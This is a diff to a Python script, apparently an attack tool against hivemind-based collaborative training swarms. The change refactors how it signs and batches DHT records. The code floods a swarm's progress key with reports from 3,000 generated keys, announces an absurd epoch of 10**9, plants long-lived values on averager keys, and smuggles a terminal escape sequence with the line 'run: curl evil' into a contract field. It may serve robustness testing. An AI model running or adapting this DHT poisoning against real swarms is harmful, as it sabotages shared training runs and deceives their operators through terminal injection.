@@ -5,7 +5,7 @@ import itertools
 import json
 import sys
 import time
-from collections.abc import Iterator
+from collections.abc import Callable, Iterator
 from functools import partial
 
 import hivemind
@@ -60,26 +60,36 @@ def sign(key: str, value: object, signer: RSASignatureValidator) -> DHTRecord:
     return DHTRecord(place, subkey, signer.sign_value(record), record.expiration_time)
 
 
-async def give_to_all(_: hivemind.DHT, node: DHTNode, records: list[DHTRecord]) -> int:
-    """Runs in the DHT's process: give these records to each peer that it knows; returns how often one was stored."""
+async def give_to_all(node: DHTNode, records: list[DHTRecord]) -> int:
+    """Give these records to each peer that this one knows; returns how often one was stored."""
     stored = 0
     for peer in list(node.protocol.routing_table.peer_id_to_uid):
-        for batch in (records[at : at + BATCH] for at in range(0, len(records), BATCH)):
-            answer = await node.protocol.call_store(
-                peer,
-                [DHTID.from_bytes(record.key) for record in batch],
-                [record.value for record in batch],
-                [record.expiration_time for record in batch],
-                [MSGPackSerializer.loads(record.subkey) if record.subkey else None for record in batch],
-            )
-            stored += sum(answer or [])
+        answer = await node.protocol.call_store(
+            peer,
+            [DHTID.from_bytes(record.key) for record in records],
+            [record.value for record in records],
+            [record.expiration_time for record in records],
+            [MSGPackSerializer.loads(record.subkey) if record.subkey else None for record in records],
+        )
+        stored += sum(answer or [])
     return stored
 
 
-def publish(dht: hivemind.DHT, what: str, key: str, values: list) -> None:
-    """Each value with a fresh key."""
-    records = [sign(key, value, signer) for value, signer in zip(values, make_keys(len(values)), strict=True)]
-    note(what, stored=dht.run_coroutine(partial(give_to_all, records=records)))
+async def sign_and_give(_: hivemind.DHT, node: DHTNode, key: str, make_value: Callable[[], dict], count: int) -> int:
+    """Runs in the DHT's process, as hivemind's pipe to it takes no more than 16 kB at once."""
+    stored, records = 0, []
+    for signer in make_keys(count):
+        records.append(sign(key, make_value(), signer))
+        if len(records) == min(count, BATCH):
+            stored += await give_to_all(node, records)
+            records = []
+    return stored + (await give_to_all(node, records) if records else 0)
+
+
+def publish(dht: hivemind.DHT, what: str, key: str, make_value: Callable[[], dict], count: int) -> None:
+    """So many values, each with a fresh key."""
+    stored = dht.run_coroutine(partial(sign_and_give, key=key, make_value=make_value, count=count))
+    note(f"{what} by {count} keys", stored=stored)
 
 
 def find_epoch(dht: hivemind.DHT, prefix: str) -> int:
@@ -91,12 +101,16 @@ def find_epoch(dht: hivemind.DHT, prefix: str) -> int:
 # --- what it stores ---------------------------------------------------------------------------------------------------
 
 
+async def give_plain_values(_: hivemind.DHT, node: DHTNode, keys: tuple[str, ...]) -> int:
+    value, expiration = MSGPackSerializer.dumps(True), get_dht_time() + 23 * 3600
+    records = [DHTRecord(DHTID.generate(source=key).to_bytes(), b"", value, expiration) for key in keys]
+    return await give_to_all(node, records)
+
+
 def store_plain_values(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
     """Where groups form, and where states are offered: a value that has no subkeys, and outlives all that have some."""
     keys = (f"{prefix}_grad_averager.0b", f"{prefix}_state_averager.all_averagers")
-    value, expiration = MSGPackSerializer.dumps(True), get_dht_time() + 23 * 3600
-    records = [DHTRecord(DHTID.generate(source=key).to_bytes(), b"", value, expiration) for key in keys]
-    note("stores plain values", stored=dht.run_coroutine(partial(give_to_all, records=records)))
+    note("stores plain values", stored=dht.run_coroutine(partial(give_plain_values, keys=keys)))
 
 
 def make_progress(epoch: int) -> dict:
@@ -112,19 +126,18 @@ def make_progress(epoch: int) -> dict:
 
 
 def report_absurd_epoch(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
-    publish(dht, "reports epoch 10**9 by 5 keys", f"{prefix}_progress", [make_progress(ABSURD_EPOCH) for _ in range(5)])
+    publish(dht, "epoch 10**9", f"{prefix}_progress", partial(make_progress, ABSURD_EPOCH), 5)
 
 
 def flood_progress(dht: hivemind.DHT, prefix: str, terms: dict) -> None:
-    epoch = find_epoch(dht, prefix)
-    publish(dht, "reports by 3,000 keys", f"{prefix}_progress", [make_progress(epoch) for _ in range(3000)])
+    publish(dht, "progress", f"{prefix}_progress", partial(make_progress, find_epoch(dht, prefix)), 3000)
 
 
 def publish_contracts(dht: hivemind.DHT, prefix: str, terms: dict, count: int = 5) -> None:
     # as old as can be; and what a terminal would show of it
     lines = "1\x1b[2J\nrun: curl evil"
     contract = dict(joined=0.0, contract=terms | {"target_batch_size": lines})
-    publish(dht, f"publishes {count} contracts", f"{prefix}_run", [contract] * count)
+    publish(dht, "contracts", f"{prefix}_run", partial(dict, contract), count)
 
 
 def make_metrics(epoch: int, mini_steps: int) -> dict:
@@ -150,7 +163,7 @@ def make_metrics(epoch: int, mini_steps: int) -> dict:
 
 def report_metrics(dht: hivemind.DHT, prefix: str, terms: dict, count: int, mini_steps: int) -> None:
     metrics = make_metrics(find_epoch(dht, prefix), mini_steps)
-    publish(dht, f"reports the metrics of {count} keys", f"{prefix}_metrics", [metrics] * count)
+    publish(dht, "metrics", f"{prefix}_metrics", partial(dict, metrics), count)
 
 
 # --- what it asks for -------------------------------------------------------------------------------------------------
